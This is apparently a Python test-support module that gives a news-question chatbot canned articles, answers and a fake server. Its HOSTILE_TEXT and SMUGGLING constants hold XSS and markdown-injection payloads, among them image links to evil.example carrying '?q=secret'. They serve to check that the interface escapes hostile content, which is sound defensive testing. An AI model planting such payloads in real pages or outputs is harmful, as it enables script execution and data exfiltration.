"""A chain and a collection with fixed answers, and a server of the page that stands on them.

Run as a script with a port, a folder for ratings and, where it shall seem to have an LLM, its name:
python -m tests.support.canned 7860 FOLDER [LLM]
"""

import datetime
import sys
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np

from chatbot.answer import (
    INSTEAD,
    Answer,
    Block,
    Citation,
    Heading,
    Note,
    Preview,
    Quotation,
    Statement,
    Step,
    Understood,
    Verdict,
)
from chatbot.answering.audience import Audience, OneAudience
from chatbot.errors import LanguageModelError, QuestionError
from chatbot.filters import QuestionFilter
from chatbot.settings import read_settings
from chatbot.web.server import serve
from index.article import Article
from index.claim import Certainty, Claim, Origin, ReportedClaim, Status
from index.errors import ArticleNotFoundError, LockedError, VectorStoreError
from index.name_decision import NameDecision
from index.passage import Passage, RetrievedPassage, Vectors
from index.storage.articles import Browsing, Listed
from index.storage.corrections import Correction
from index.storage.filters import Filters

if TYPE_CHECKING:
    from index.ingest.report import Report

HAMA = Article(
    id="0123456789abcdef",
    title="Hama changes hands",
    source="Sample Desk",
    author="A. Writer",
    date=datetime.date(2024, 12, 5),
    url="https://news.example/hama",
    text="Hama, a city in the middle of Syria, lies on the M5 motorway between Aleppo and Damascus. For four days the "
    "fighting stood still outside it, in the villages to the north and on the hill of Zayn al-Abidin.\n\nOpposition "
    "forces took the city of Hama on Thursday. The army said that it had withdrawn its units from Hama. Fighters "
    "entered from the north-east after three days of fighting outside the city. They opened the central prison and "
    "drove on to the main square, where a crowd had gathered by the afternoon.\n\nThe road to Homs, the next city to "
    "the south, was open on Thursday evening.\n" + "\nNothing further was reported from the city that night.\n" * 12,
)
LINES = Article(
    id="fedcba9876543210",
    title="Front lines on the first of December",
    source="Sample Desk",
    date=datetime.date(2024, 12, 1),
    text="Hama, Homs and Damascus remained in the hands of the government. Further north, most of Aleppo is held by "
    "the opposition.",
)
HOSTILE_TEXT = (
    '<img src=http://evil.example/a.png onerror="document.title=1"> ![x](http://evil.example/b.png) '
    "<script>document.title = 2</script> ${document.title=3} {{constructor}} [link](javascript:alert(1)) & <b>bold</b>"
)
HOSTILE = Article(
    id="aaaaaaaaaaaaaaaa",
    title=f'"> <svg/onload=document.title=4> {HOSTILE_TEXT}',
    source="<i>Desk</i>",
    date=None,
    url="javascript:document.title=5",
    text=f"Before. {HOSTILE_TEXT} After.",
)
EXAMPLES = ["Who controls Manbij?", "What changed hands on 5 December?", "Who held Aleppo before?"]


def noted(text: str) -> tuple[Block, ...]:
    """The blocks of an answer that says only this, a block a line."""
    return tuple(map(Note, text.splitlines()))


def citation(n: int, article: Article, sentence: str) -> Citation:
    """The citation of `sentence`, which must stand in the article; the passage is the article's opening."""
    start = article.text.index(sentence)
    a = article
    passage = a.text[:700].strip()
    return Citation(n, a.id, a.title, a.source, a.date, a.url, passage, sentence, start, start + len(sentence))


HAMA_ANSWER = Answer(
    question="Who controls Hama?",
    understood=Understood("Who controls Hama?"),
    blocks=(
        Heading("As of 5 December 2024, Sample Desk"),
        Quotation("Opposition forces took the city of Hama on Thursday.", (1,), "\n"),
        Quotation("The army said that it had withdrawn its units from Hama.", (2,)),
        Heading("Earlier, 1 December 2024", is_earlier=True),
        Quotation("Hama, Homs and Damascus remained in the hands of the government.", (3,)),
    ),
    answered_by="answers by quoting",
    as_of=HAMA.date,
    citations=(
        citation(1, HAMA, "Opposition forces took the city of Hama on Thursday."),
        citation(2, HAMA, "The army said that it had withdrawn its units from Hama."),
        citation(3, LINES, "Hama, Homs and Damascus remained in the hands of the government."),
    ),
)
KHERSON_ANSWER = Answer(
    question="And Kherson?",
    understood=Understood("Who controls Kherson?"),
    blocks=(Note("No article mentions Kherson."),),
    answered_by="answers by quoting",
    abstained=True,
    reason="The articles cover Syria from 27 November to 11 December 2024.",
    related=(citation(1, LINES, "Further north, most of Aleppo is held by the opposition."),),
)
HOSTILE_ANSWER = Answer(
    question=HOSTILE_TEXT,
    understood=Understood(f"Understood: {HOSTILE_TEXT}"),
    blocks=(
        Heading(f"As of {HOSTILE_TEXT}"),
        Quotation(HOSTILE_TEXT, (1, 9), "\n"),
        Heading(f"Earlier {HOSTILE_TEXT}", is_earlier=True),
        Quotation(HOSTILE_TEXT, ()),
    ),
    answered_by="answers by quoting",
    citations=(citation(1, HOSTILE, HOSTILE_TEXT),),
    notes=(HOSTILE_TEXT,),
)
SMUGGLING = (
    "![x](http://evil.example/1.png?q=secret)",
    "[![x](http://evil.example/2.png)](http://evil.example/2)",
    "![x][ref]\n\n[ref]: http://evil.example/3.png",
    "[click](javascript:document.title=6) [click](data:text/html,x) [click](//evil.example)",
    "http://evil.example/4 <http://evil.example/5> www.evil.example",
    "<img src=http://evil.example/6.png onerror=document.title=7>",
    "<a href='javascript:document.title=8'>x</a><svg/onload=document.title=9><iframe src=http://evil.example/7></iframe>",
    "<style>@import 'http://evil.example/8';*{background:url(http://evil.example/9)}</style><base href=http://evil.example>",
    "<form action=http://evil.example><button data-ask=x>Ask</button></form><meta http-equiv=refresh content=0>",
    "${document.title=10} {{document.title}} <script>document.title=11</script> &lt;img src=http://evil.example/10&gt;",
)
NOT_FOUND = "[not found in the articles]"
TAKEN = "Opposition forces took Hama on Thursday."
INVENTED = "They lost 12 men."


WRITTEN_ANSWER = replace(
    HAMA_ANSWER,
    question="What was written?",
    understood=Understood("What was written?"),
    answered_by="openai:canned",
    blocks=(
        Statement(TAKEN, Verdict.VERIFIED, (1, 2)),
        Statement(INVENTED, Verdict.UNFOUND, missing="the number 12", space="\n"),
        Statement("The government held Homs on 1 December.", Verdict.MOVED, (3,)),
    ),
)
PROVEN_ANSWER = replace(
    WRITTEN_ANSWER,
    question="What was proven?",
    understood=Understood("What was proven?"),
    citations=HAMA_ANSWER.citations[:2],
    blocks=WRITTEN_ANSWER.blocks[:1],
)
BRACKETS_ANSWER = replace(
    HAMA_ANSWER,
    question="What is in brackets?",
    understood=Understood("What is in brackets?"),
    blocks=(Heading("As of today, Desk [3]"), Quotation("They [2] took the city [1].", (1,), "\n")),
)
DRAFT_ANSWER = replace(
    HAMA_ANSWER,
    question="What was drafted?",
    understood=Understood("What was drafted?"),
    draft="Opposition forces took Hama [1] and then",
    notes=(f"The LLM openai:canned broke off. {INSTEAD}",),
)


def claimed(
    article: Article, sentence: str, place: str, holder: str | None, status: Status, **more: object
) -> ReportedClaim:
    """The claim of a sentence that stands in the article."""
    start = article.text.index(sentence)
    claim = Claim(place, holder, status, Certainty.FACT, start, start + len(sentence))
    claim = replace(claim, **more)  # type: ignore[arg-type]
    return ReportedClaim(claim, article.id, article.title, article.source, article.url, article.date, sentence)


REMAINED = "Hama, Homs and Damascus remained in the hands of the government."
WITHDREW = "The army said that it had withdrawn its units from Hama."
# The oldest article's first, as a collection has them.
CLAIMS = [
    claimed(HOSTILE, HOSTILE_TEXT, f"Nowhere {HOSTILE_TEXT}", f"Side {HOSTILE_TEXT}", Status.HOLDS,
            said_by=HOSTILE_TEXT, resolved_from=HOSTILE_TEXT),
    claimed(HOSTILE, "Before.", "Lindby", f"Ada {HOSTILE_TEXT}", Status.HOLDS, role="mayor"),
    *[claimed(LINES, REMAINED, place, "government", Status.HOLDS) for place in ("Hama", "Homs", "Damascus")],
    claimed(LINES, "Further north, most of Aleppo is held by the opposition.", "Aleppo", "opposition", Status.HOLDS,
            origin=Origin.LLM),
    claimed(HAMA, "Opposition forces took the city of Hama on Thursday.", "Hama", "Opposition forces", Status.TOOK,
            since=HAMA.date, until=HAMA.date, dated="relative"),
    claimed(HAMA, WITHDREW, "Hama", "army", Status.LEFT, said_by="The army", holder_from="it",
            certainty=Certainty.ATTRIBUTED),
    claimed(HAMA, "The road to Homs, the next city to the south, was open on Thursday evening.", "Homs", None,
            Status.CONTESTED),
]  # fmt: skip


@dataclass(frozen=True)
class Known:
    """What the collection holds."""

    articles: int = 11
    passages: int = 40
    first: datetime.date | None = datetime.date(2024, 11, 27)
    last: datetime.date | None = datetime.date(2024, 12, 11)


class CannedCollection:
    """Three articles, one of them hostile."""

    def __init__(self) -> None:
        self._articles = {article.id: article for article in (HAMA, LINES, HOSTILE)}

    def summary(self) -> Known:
        return Known()

    def fault(self) -> str | None:
        return None

    def reported_claims(self) -> list[ReportedClaim]:
        return CLAIMS

    def aliases(self) -> frozenset[tuple[str, str]]:
        return frozenset()

    def name_decisions(self) -> tuple[NameDecision, ...]:
        return ()

    def sources(self) -> list[tuple[str | None, int]]:
        return [("Sample Desk", 9), ("Other Desk", 1), (None, 1)]

    def browse(self, wanted: Browsing, *, most: int, after: int) -> tuple[list[Listed], int]:
        rows = [
            Listed(a.id, a.title, a.source, a.date, a.path, 3, "2026-01-02T03:04:05+00:00", "page", a.url)
            for a in self._articles.values()
            if wanted.words in a.text and wanted.source in (None, a.source or "")
        ]
        return rows[after : after + most], len(rows)

    def article(self, id: str) -> Article:
        if id not in self._articles:
            raise ArticleNotFoundError(f"No article has the id '{id}'.")
        return self._articles[id]

    def search(self, question: str, *, filters: Filters, limit: int) -> list[RetrievedPassage]:
        if "fail" in question:
            raise VectorStoreError("Chroma cannot be searched.")
        return [
            RetrievedPassage(Passage(a.id, 0, 0, len(a.text), a.text, ((0, a.text.index(".") + 1),)), a, 0.5, 0.1)
            for a in self._articles.values()
        ]

    def sentence_vectors(self, passage: Passage) -> Vectors:
        return np.ones((len(passage.sentences), 2), dtype=np.float32)

    def question_vector(self, question: str) -> Vectors:
        return np.ones(2, dtype=np.float32)

    def remove(self, article_id: str) -> bool:
        return self._articles.pop(article_id, None) is not None


class CannedUploads:
    """Adds nothing, and says that it has added what it was sent; "locked" cannot be added, and "broken" breaks."""

    def add_file(
        self, path: Path, name: str, say: Callable[[str], None], on_written: Callable[[Article], None],
        passages: Callable[[str, int, int], None], groups: Sequence[str] | None = None,
    ) -> "Report":
        from index.ingest.report import Report

        if "locked" in name:
            say("Somebody else is writing.")
            raise LockedError("The index is still being written by process 1.")
        if "broken" in name:
            raise ZeroDivisionError("secret detail")
        if "long" in name:
            for done in range(0, 1000, 10):
                passages("A long text", done, 1000)
                time.sleep(0.1)
        on_written(HAMA)
        return Report(added=[f"{name}: {path.stat().st_size} bytes"])

    def add_text(
        self, path: Path, say: Callable[[str], None], on_written: Callable[[Article], None],
        passages: Callable[[str, int, int], None], groups: Sequence[str] | None = None,
    ) -> "Report":
        return self.add_file(path, path.read_text(), say, on_written, passages)

    def add_folder(
        self, path: Path, say: Callable[[str], None], on_written: Callable[[Article], None],
        passages: Callable[[str, int, int], None],
    ) -> "Report":
        from index.ingest.report import Report

        return Report(added=[path.name])

    def add_url(
        self, url: str, say: Callable[[str], None], on_written: Callable[[Article], None],
        passages: Callable[[str, int, int], None], groups: Sequence[str] | None = None,
    ) -> "Report":
        from index.ingest.report import Report
        from index.readers.registry import Refusal

        return Report(refused=[Refusal(url, "it is not fetched here.")])


    def correct(
        self, article_id: str, values: Mapping[str, object], by: str, restore: Sequence[str] = ()
    ) -> tuple[Article, list[Correction]]:
        return HAMA, []

    def corrections(self, article_id: str) -> list[Correction]:
        return [Correction("date", "2024-12-04", "2024-12-05", False, "ada", "2026-01-02T03:04:05+00:00")]

    def restrict(self, article_ids: Sequence[str], groups: Sequence[str]) -> None:
        """Every article is for everybody here."""

    def merge_names(self, name: str, other: str, by: str) -> None:
        raise LockedError("Another process is writing.")

    def split_name(self, name: str, by: str) -> None:
        raise LockedError("Another process is writing.")

    def undo_decision(self, name: str, other: str, by: str) -> None:
        raise LockedError("Another process is writing.")

    def remove(self, article_ids: Sequence[str]) -> int:
        return 0


class CannedChain:
    """Answers by what the question names; "slow" and "silent" take seconds, "slow" and "endless" a minute, "fail"
    and "crash" end in an error, and "scope" tells how the question was narrowed. `writer` is the name of an LLM."""

    def __init__(self, writer: str | None = None) -> None:
        self.writer = writer
        self.answerer = f"answers written by {writer}" if writer else "answers by quoting"

    def stream(
        self, question: str, history: Sequence[Answer], scope: QuestionFilter
    ) -> Iterator[str | Step | Preview | Answer]:
        if len(question) > 2000:
            raise QuestionError(f"The question has {len(question):,} characters. Expected at most 2,000.")
        if "crash" in question:
            raise ZeroDivisionError("secret detail")
        if "silent" in question:
            yield Step("Searching the articles")
            yield Step("Reading 8 passages")
            yield Step("Waiting for openai:canned")
            time.sleep(3)
        if "at first" in question:
            yield from self._quoted_first(0.1 if "slowly" in question else 0)
            return
        if "slow" in question:
            yield from self._slowly(600 if "endless" in question else 60)
        if "fail" in question:
            yield "Half of an answer"
            raise LanguageModelError("The model at http://127.0.0.1:9 does not answer. Start it, or unset --model.")
        if "smuggle" in question:
            yield from self._smuggled(question)
            return
        if "history" in question:
            yield Answer(question, Understood(question), noted(f"{len(history)} answers came before."), self.answerer)
            return
        if "scope" in question:
            yield Answer(question, Understood(question), noted(repr(scope)), self.answerer)
            return
        yield HAMA_ANSWER.text[:60]
        yield self._answer(question)

    def _quoted_first(self, pause: float) -> Iterator[str | Step | Preview | Answer]:
        """What is quoted, for 20 pauses; then an LLM's text, for 30, and its answer."""
        yield Step("Waiting for openai:canned")
        yield Preview(HAMA_ANSWER)
        for _ in range(20):
            time.sleep(pause)
            yield ""
        yield TAKEN
        yield Preview(None)
        for _ in range(30):
            time.sleep(pause)
            yield ""
        yield replace(PROVEN_ANSWER, quoted=HAMA_ANSWER)

    def _slowly(self, sentences: int) -> Iterator[str]:
        for number in range(sentences):
            yield f"Sentence number {number} of a slow answer.\n"
            time.sleep(0.1)

    def _smuggled(self, question: str) -> Iterator[str | Answer]:
        text = "\n".join(SMUGGLING)
        for at in range(0, len(text), 9):
            yield text[at : at + 9]
            time.sleep(0.01)
        unfound = tuple(Statement(written, Verdict.UNFOUND, missing=written, space="\n") for written in SMUGGLING)
        yield Answer(question, Understood(text), unfound, "openai:canned", draft=text, notes=SMUGGLING)

    def _answer(self, question: str) -> Answer:
        for answer in (KHERSON_ANSWER, WRITTEN_ANSWER, PROVEN_ANSWER, BRACKETS_ANSWER, DRAFT_ANSWER):
            if answer.question == question:
                return answer
        return HOSTILE_ANSWER if "<" in question else HAMA_ANSWER


def say_ready(url: str) -> None:
    """Tells who started the server that it answers, and where."""
    print(url, flush=True)  # noqa: T201


if __name__ == "__main__":
    chosen = read_settings(port=sys.argv[1], data=sys.argv[2])
    chain, uploads = CannedChain(*sys.argv[3:]), CannedUploads()
    everybody = OneAudience(Audience(chain, CannedCollection(), lambda: EXAMPLES))
    serve(chosen, everybody, uploads, ready=say_ready)
